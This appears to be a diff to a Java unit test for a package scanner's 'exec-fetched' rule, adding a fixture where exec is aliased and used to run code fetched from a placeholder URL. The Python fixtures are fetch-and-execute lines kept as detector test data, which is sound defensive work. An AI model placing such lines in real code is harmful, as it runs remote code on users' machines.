@@ -128,7 +128,7 @@ class ContentRuleTest {
   }
 
   @Test
-  void aFunctionHandedByNameToWhatCallsItLaterIsFollowedThoughItsCallIsNeverWritten() {
+  void aFunctionNamedButNotCalledWhereItIsWrittenIsStillFollowed() {
     String handed =
         """
         import _thread
@@ -136,9 +136,13 @@ class ContentRuleTest {
 
         _thread.start_new_thread(exec, (urlopen("https://a.example/boot.py").read(),))
         """;
+    String assigned =
+        "from urllib.request import urlopen\nrun = exec\nrun(urlopen('https://a.example/x.py').read())\n";
     String named = "import builtins\n\nRUNNERS = [exec, eval]\nbody = urlopen(U).read()\n";
 
     assertThat(only(check(wheelWith("pkg/__init__.py", handed)), "exec-fetched").level())
+        .isEqualTo(RiskLevel.CRITICAL);
+    assertThat(only(check(wheelWith("pkg/__init__.py", assigned)), "exec-fetched").level())
         .isEqualTo(RiskLevel.CRITICAL);
     assertThat(patternsOf(check(wheelWith("pkg/__init__.py", named))))
         .doesNotContain("exec-fetched");
